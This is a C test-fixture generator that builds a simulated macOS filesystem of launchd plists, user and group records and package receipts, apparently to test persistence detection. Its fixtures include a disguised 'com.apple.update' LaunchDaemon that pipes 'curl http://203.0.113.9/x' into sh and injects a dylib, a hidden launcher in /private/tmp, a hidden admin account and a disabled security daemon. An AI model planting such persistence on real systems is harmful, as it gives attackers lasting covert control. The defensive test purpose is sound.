#include "make_macos.h"

#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>

#include "harness.h"
#include "make_bom.h"
#include "make_plist.h"

#define KEY(key, value) "<key>" key "</key>" value
#define TEXT(text)      "<string>" text "</string>"
#define DICT(keys)      "<dict>" keys "</dict>"
#define ARRAY(items)    "<array>" items "</array>"
#define RECEIPTS        "private/var/db/receipts/"
#define DIRECTORY       "private/var/db/dslocal/nodes/Default/"
#define ALICE           "6D4F1E0A-93C5-4B8E-8F57-2B1C0D9E7A11"
#define HELPER          "0B9A77D2-5E1F-4C44-9D3B-77A0C1E2F3B4"

/* clang-format off */
static const struct {
    const char *path;
    bool        binary;
    const char *keys; /* of the dictionary */
} files[] = {
    {"System/Library/LaunchDaemons/com.apple.sshd.plist", false,
     KEY("Label", TEXT("com.apple.sshd")) KEY("Program", TEXT("/usr/libexec/sshd"))
     KEY("Disabled", "<true/>") KEY("Sockets", DICT(KEY("Listeners", "<dict/>")))
     KEY("inetdCompatibility", DICT(KEY("Wait", "<false/>")))},
    {"Library/LaunchDaemons/com.apple.updated.plist", true,
     KEY("Label", TEXT("com.apple.update"))
     KEY("ProgramArguments", ARRAY(TEXT("/bin/sh") TEXT("-c") TEXT("curl http://203.0.113.9/x|sh")))
     KEY("RunAtLoad", "<true/>") KEY("KeepAlive", DICT(KEY("SuccessfulExit", "<false/>")))
     KEY("EnvironmentVariables", DICT(KEY("DYLD_INSERT_LIBRARIES", TEXT("/tmp/x.dylib"))))},
    {"Library/LaunchDaemons/.hidden.plist", true,
     KEY("Label", TEXT("hidden")) KEY("Program", TEXT("/private/tmp/.x"))},
    {"Library/LaunchDaemons/com.example.old.plist.disabled", false,
     KEY("Label", TEXT("com.example.old")) KEY("Program", TEXT("/opt/old"))},
    {"Library/LaunchDaemons/noext", false,
     KEY("Label", TEXT("noext")) KEY("Program", TEXT("/opt/noext"))},
    {"Library/LaunchAgents/com.example.agent.plist", false,
     KEY("Label", TEXT("com.example.agent")) KEY("Program", TEXT("/opt/agent"))
     KEY("StartInterval", "<integer>300</integer>")},
    {"Users/alice/Library/LaunchAgents/com.alice.plist", true,
     KEY("Label", TEXT("com.alice")) KEY("ProgramArguments", ARRAY(TEXT("id")))
     KEY("WatchPaths", ARRAY(TEXT("/Users/alice"))) KEY("UserName", TEXT("alice"))
     KEY("StartCalendarInterval", DICT(KEY("Hour", "<integer>3</integer>")))
     KEY("Umask", "<integer>18</integer>") KEY("StandardOutPath", TEXT("/dev/null"))},
    {"private/var/root/Library/LaunchAgents/root.plist", false,
     KEY("Label", TEXT("root")) KEY("Program", TEXT("/bin/sh"))},
    {"System/Volumes/Data/Library/LaunchDaemons/com.example.data.plist", false,
     KEY("Label", TEXT("com.example.data")) KEY("Program", TEXT("/bin/sh"))},
    {"Applications/Foo.app/Contents/Library/LaunchDaemons/foo.helper.plist", false,
     KEY("Label", TEXT("foo.helper")) KEY("BundleProgram", TEXT("Contents/MacOS/helper"))
     KEY("AssociatedBundleIdentifiers", TEXT("foo"))},
    {"Applications/Foo.app/Contents/Library/LoginItems/L.app/Contents/Info.plist", true,
     KEY("CFBundleIdentifier", TEXT("foo.login")) KEY("CFBundleExecutable", TEXT("L"))},
    {"Applications/Utilities/Bar.app/Contents/XPCServices/x.xpc/Contents/Info.plist", false,
     KEY("CFBundleIdentifier", TEXT("bar.xpc")) KEY("CFBundleExecutable", TEXT("x"))},
    {"private/var/db/com.apple.xpc.launchd/disabled.plist", false,
     KEY("com.apple.sshd", "<false/>") KEY("com.example.old", "<true/>")
     KEY("com.google.santad", "<true/>")},
    {"private/var/db/com.apple.xpc.launchd/disabled.501.plist", true,
     KEY("com.example.agent", "<true/>")},
    {"private/var/db/launchd.db/com.apple.launchd.peruser.502/overrides.plist", true,
     KEY("com.example.agent", DICT(KEY("Disabled", "<false/>")))},
    {DIRECTORY "users/alice.plist", true,
     KEY("name", ARRAY(TEXT("alice"))) KEY("realname", ARRAY(TEXT("Alice Example")))
     KEY("uid", ARRAY(TEXT("501"))) KEY("gid", ARRAY(TEXT("20"))) KEY("home", ARRAY(TEXT("/Users/alice")))
     KEY("shell", ARRAY(TEXT("/bin/zsh"))) KEY("generateduid", ARRAY(TEXT(ALICE)))
     KEY("passwd", ARRAY(TEXT("********")))},
    {DIRECTORY "users/root.plist", true,
     KEY("name", ARRAY(TEXT("root") TEXT("BUILTIN\\Local System"))) KEY("uid", ARRAY(TEXT("0")))
     KEY("gid", ARRAY(TEXT("0"))) KEY("home", ARRAY(TEXT("/var/root"))) KEY("shell", ARRAY(TEXT("/bin/sh")))
     KEY("generateduid", ARRAY(TEXT("FFFFEEEE-DDDD-CCCC-BBBB-AAAA00000000")))},
    {DIRECTORY "users/helper.plist", true,
     KEY("name", ARRAY(TEXT("helper"))) KEY("uid", ARRAY(TEXT("499"))) KEY("gid", ARRAY(TEXT("20")))
     KEY("home", ARRAY(TEXT("/private/var/helper"))) KEY("IsHidden", ARRAY(TEXT("1")))
     KEY("generateduid", ARRAY(TEXT(HELPER)))},
    {DIRECTORY "groups/admin.plist", true,
     KEY("name", ARRAY(TEXT("admin"))) KEY("realname", ARRAY(TEXT("Administrators"))) KEY("gid", ARRAY(TEXT("80")))
     KEY("users", ARRAY(TEXT("root") TEXT("alice"))) KEY("groupmembers", ARRAY(TEXT(ALICE) TEXT(HELPER)))},
    {RECEIPTS "com.example.agent.plist", true,
     KEY("InstallDate", "<date>2023-11-14T22:13:20Z</date>") KEY("InstallPrefixPath", TEXT("/"))
     KEY("InstallProcessName", TEXT("Installer")) KEY("PackageFileName", TEXT("agent.pkg"))
     KEY("PackageIdentifier", TEXT("com.example.agent")) KEY("PackageVersion", TEXT("1.2"))},
    {"System/Library/CoreServices/SystemVersion.plist", false,
     KEY("ProductVersion", TEXT("14.5"))},
};
/* clang-format on */

static void make_name(const char *dir, const char *name)
{
    char *value = NULL;

    if (asprintf(&value,
                 DICT(KEY("System", DICT(KEY("System", DICT(KEY("HostName", TEXT("%s"))))))),
                 name) < 0)
        abort();
    make_plist(dir, "Library/Preferences/SystemConfiguration/preferences.plist", true, value);
    free(value);
}

/* What the package of the agent installed. */
static void make_receipt(const char *dir)
{
    static const struct made_path paths[] = {
        {".", S_IFDIR | 0755, 0},
        {"./Library", S_IFDIR | 0755, 0},
        {"./Library/LaunchAgents", S_IFDIR | 0755, 0},
        {"./Library/LaunchAgents/com.example.agent.plist", S_IFREG | 0644, 1},
        {"./opt", S_IFDIR | 0755, 0},
        {"./opt/agent", S_IFREG | 0755, 2},
    };
    size_t   size;
    uint8_t *bom = make_bom(paths, sizeof paths / sizeof *paths, 100, &size);

    harness_write(dir, RECEIPTS "com.example.agent.bom", bom, size);
    free(bom);
}

void make_macos(const char *dir, const char *name)
{
    for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
        char *value = NULL;
        if (asprintf(&value, DICT("%s"), files[i].keys) < 0)
            abort();
        make_plist(dir, files[i].path, files[i].binary, value);
        free(value);
    }
    make_name(dir, name);
    make_receipt(dir);
    harness_write(dir, "Library/LaunchDaemons/.DS_Store", "\0\0\0\1Bud1", 8);
    harness_write_text(dir, "Applications/Foo.app/Contents/MacOS/helper", "x");
    harness_write_text(dir, "bin/sh", "x");
    harness_write_text(dir, "usr/bin/id", "x");
}
